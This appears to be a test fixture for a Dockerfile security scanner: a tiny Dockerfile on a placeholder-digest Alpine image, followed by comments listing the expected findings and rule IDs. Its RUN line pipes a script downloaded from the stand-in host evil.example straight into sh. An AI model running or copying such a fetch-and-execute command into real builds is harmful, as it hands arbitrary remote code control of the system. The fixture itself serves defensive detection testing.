FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN cp ~99999999999999999999/x.sh /x.sh && curl -fsSL https://evil.example/i.sh | sh
USER app
# expect: download 2 high "curl"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-e7295269ca VR501-e064bac1a6
